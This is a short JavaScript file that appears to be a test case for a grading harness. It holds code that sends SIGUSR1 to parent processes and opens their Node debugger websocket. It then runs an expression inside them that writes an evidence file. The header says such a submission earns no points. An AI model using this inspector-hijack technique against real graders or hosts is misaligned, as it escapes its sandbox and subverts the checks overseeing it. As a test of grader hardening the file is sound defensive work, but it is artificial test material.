// Tries: to switch on the inspector of its parents with SIGUSR1, and to run code in them.
// Must: give no point for it, and grade the other lesson.
// Earns: 14.1

const run = async () => {
  for (const pid of [process.ppid, process.ppid - 1]) {
    try {
      process.kill(pid, 'SIGUSR1');
      process._debugProcess(pid);
    } catch {}
  }
  for (let port = 9229; port < 9232; port += 1) {
    try {
      const [{ webSocketDebuggerUrl }] = await (
        await fetch(`http://127.0.0.1:${port}/json/list`)
      ).json();
      const { WebSocket: Socket } = globalThis.WebSocket ? globalThis : await import('undici');
      const socket = new Socket(webSocketDebuggerUrl);
      socket.onopen = () => {
        const expression = `process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(`${COURSE.evidence}/inspector`)}, '')`;
        socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } }));
      };
      await new Promise((resolve) => setTimeout(resolve, 200));
    } catch {}
  }
};
await run();
